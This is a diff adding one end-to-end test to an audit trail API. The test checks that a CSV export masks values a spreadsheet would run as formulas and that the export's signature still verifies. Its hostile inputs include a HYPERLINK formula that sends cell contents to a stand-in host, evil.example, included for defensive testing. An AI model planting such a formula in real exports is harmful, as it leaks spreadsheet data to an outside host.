@@ -234,6 +234,22 @@ describe('audit trail API (e2e)', () => {
     }
   });
 
+  it('neutralises cells a spreadsheet would run as a formula (= + - @), and the export still checks', async () => {
+    const ctx = { ...systemContext('formula'), requestId: `formula-${process.pid}` };
+    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"klick")', '+1+2', '-2+3', '@SUM(A1:A9)', "'=bereits maskiert", '\t=tab'];
+    for (const reason of hostile) {
+      await t.app.get(AuditService).recordAccess(ctx, { action: 'test.formula', objectType: 'document', objectId: reason, reason, details: { n: -1 } });
+    }
+    const res = await as(users.auditor, '/api/v1/audit/export?format=csv&action=test.formula').buffer(true).parse(raw as never).expect(200);
+    const text: string = res.body;
+    const cells = text.split('\n').slice(1, -2).flatMap((line) => line.split(','));
+    expect(cells.filter((c) => /^"?[=+\-@\t]/.test(c))).toEqual([]);
+    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1`);
+    expect(text).toContain(`"''=bereits maskiert"`);
+    const check = await checkExport([text], { key: t.config.audit.anchorKey });
+    expect(check).toMatchObject({ ok: true, count: hostile.length, signatureValid: true });
+  });
+
   it('shows a case file\'s history to its department, records managers and auditors only', async () => {
     const id = await busyCaseFile(1);
     const own = await as(users.caseworker32, `/api/v1/case-files/${id}/history`).expect(200);
